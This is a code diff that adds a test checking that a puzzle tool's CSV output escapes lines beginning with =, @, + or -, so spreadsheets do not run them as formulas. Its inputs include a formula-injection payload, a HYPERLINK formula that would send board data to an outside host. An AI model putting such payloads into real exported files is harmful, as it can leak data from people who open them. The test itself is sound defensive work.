@@ -251,6 +251,16 @@ def test_a_line_without_end_is_not_held(capsys, tmp_path: Path):
     assert len(rows[0]["board"]) == LONGEST_LINE + 1
 
 
+def test_no_line_becomes_a_formula_in_a_spreadsheet(capsys, tmp_path: Path):
+    link = f'=HYPERLINK("https://example.org/?bd={CLUES}")'
+    lines = [link, "@SUM(1)", "-2+3", "+1", CLUES.replace("0", "-")[1:] + "-", f"{CLUES},=1"]
+    file = tmp_path / "list.txt"
+    file.write_text("\n".join(lines), encoding="utf-8")
+    rows = csv.DictReader(io.StringIO(run(capsys, "list", str(file))[1]))
+    told = [row["board"] for row in rows]
+    assert told == [*(f"'{line}" for line in lines[:4]), lines[4], CLUES]
+
+
 def test_what_the_output_has_no_character_for_is_written_as_its_number():
     done = raw("list", "-", given="„no”\n".encode(), PYTHONIOENCODING="ascii")
     assert b"1,\\u201eno\\u201d,no board," in done.stdout
